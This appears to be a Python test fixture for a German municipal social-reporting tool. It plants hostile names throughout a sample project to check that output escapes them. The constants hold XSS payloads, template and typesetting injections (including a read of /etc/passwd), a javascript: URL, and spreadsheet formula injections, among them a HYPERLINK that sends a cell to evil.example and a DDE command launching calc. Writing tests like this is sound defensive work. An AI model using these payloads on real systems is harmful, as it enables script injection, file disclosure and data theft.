"""Musterstadt in which every name a person can type, declare or upload attacks whoever shows it."""

from __future__ import annotations

import hashlib
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

from tests.conftest import ROOT

# Closes tags, attributes, comments, scripts and styles; asks a template and a typesetter for more than text.
MARKUP = """"'><img src=x onerror=alert(1)></title></textarea></script><script>alert(1)</script>--><svg onload=alert(1)>{{7*7}}{% t %}"""
TYPESET = """#read("/etc/passwd") $x$ *a* _b_ `c` @d <e> \\\\ #eval("1")"""
FORMULA = """=HYPERLINK("http://evil.example/?"&A1;"Klick")"""
FORMULAS = (FORMULA, "+1+1|x!A1", "-2+3", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0")
STARTER = ROOT / "src" / "lebenslagen" / "starter" / "musterstadt"


def toml(text: str) -> str:
    """A text as it stands in a declaration."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


def _declare(folder: Path) -> None:
    """Labels, titles, descriptions and texts."""

    def change(name: str, *pairs: tuple[str, str]) -> None:
        path = folder / name
        text = path.read_text("utf-8")
        for old, new in pairs:
            assert old in text, (name, old)
            text = text.replace(old, new)
        path.write_text(text, "utf-8")

    change(
        "project.toml",
        ('plural = "Sozialräume"', f"plural = {toml('Räume' + MARKUP)}"),
        ('label = "31.12.2024"', f"label = {toml('Ende 2024' + MARKUP)}"),
        ('office = "Stadt Musterstadt, Fachstelle Sozialplanung"', f"office = {toml('Stelle' + MARKUP)}"),
    )
    change(
        "areas.toml",
        ('"1" = "Mitte"', f'"1" = {toml("Mitte" + MARKUP)}'),
        ('"2" = "Hafen"', f'"2" = {toml(FORMULA)}'),
    )
    change("indicators.toml", ('label = "Einkommen"', f"label = {toml('Geld' + MARKUP)}"))
    change(
        "sources/jobcenter.toml",
        (
            'producer = "Jobcenter Musterstadt, Statistik der Bundesagentur für Arbeit"',
            f"producer = {toml('Jobcenter' + MARKUP)}",
        ),
        (
            'licence = "Auswertung nach Vertrag, Veröffentlichung mit Quellenangabe"',
            'licence = "x"\nurl = "javascript:alert(1)"',
        ),
        ('rhythm = "jährlich im April"', f"rhythm = {toml('jährlich im April' + MARKUP)}"),
    )
    known = '"Altmarkt" = "01", "Bahnhofsviertel" = "02", "Hochschulviertel" = "03"'
    change("sources/soziales.toml", ("aliases = {", f"aliases = {{ {known},"))
    change("sources/jugend.toml", ('title = "', f"title = {toml(FORMULA)[:-1]} "))
    change(
        "indices/sozialindex.toml",
        ('label = "Sozialindex"', f"label = {toml('Index' + MARKUP)}"),
        ('"hoch"', toml("hoch" + MARKUP)),
    )
    change(
        "reports/sozialbericht-2024.toml",
        ('title = "Sozialbericht Musterstadt"', f"title = {toml('Bericht' + MARKUP)}"),
        ('publisher = "Stadt Musterstadt, Die Oberbürgermeisterin"', f"publisher = {toml('Stadt' + MARKUP)}"),
    )
    (folder / "reports" / "auftrag.md").write_text(
        f"Auftrag <script>alert(1)</script> {TYPESET.replace('`', '').replace('*', '')}\n", "utf-8"
    )


def _name_quarters(folder: Path) -> None:
    """Names of quarters, as a shape file or GeoPackage brings them."""
    names = {"01": "Altmarkt" + MARKUP, "02": FORMULA, "03": TYPESET}
    for path in (folder / "areas").glob("sozialquartiere-*.gpkg"):
        with sqlite3.connect(path) as base:
            for trigger in base.execute("select name from sqlite_master where type = 'trigger'").fetchall():
                base.execute(f'drop trigger "{trigger[0]}"')
            base.executemany(
                f'update "{path.stem}" set name = ? where schluessel = ?', [(n, k) for k, n in names.items()]
            )
            base.commit()
        base.close()


def hostile(made_from: str) -> Path:
    """The project, with one report released; made once for each version of what makes it. For reading only."""
    own = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()[:8]
    place = Path(tempfile.gettempdir()) / f"lebenslagen-boese-{os.getuid()}-{made_from}-{own}"
    if (place / "ledger.jsonl").is_file():
        return place
    with tempfile.TemporaryDirectory() as folder:
        starter, beside = Path(folder) / "starter", place.with_name(f"{place.name}-{os.getpid()}")
        shutil.copytree(STARTER, starter)
        _declare(starter)
        _name_quarters(starter)
        run = [sys.executable, "-m", "lebenslagen"]
        subprocess.run(
            [*run, "start", str(beside), "--starter", str(starter)], check=True, capture_output=True
        )
        names = ("--by", "A" + MARKUP, "--approved-by", "B" + MARKUP)
        subprocess.run(
            [*run, "release", str(beside), "sozialbericht-2024", *names], check=True, capture_output=True
        )
        shutil.rmtree(place, ignore_errors=True)
        beside.rename(place)
    return place
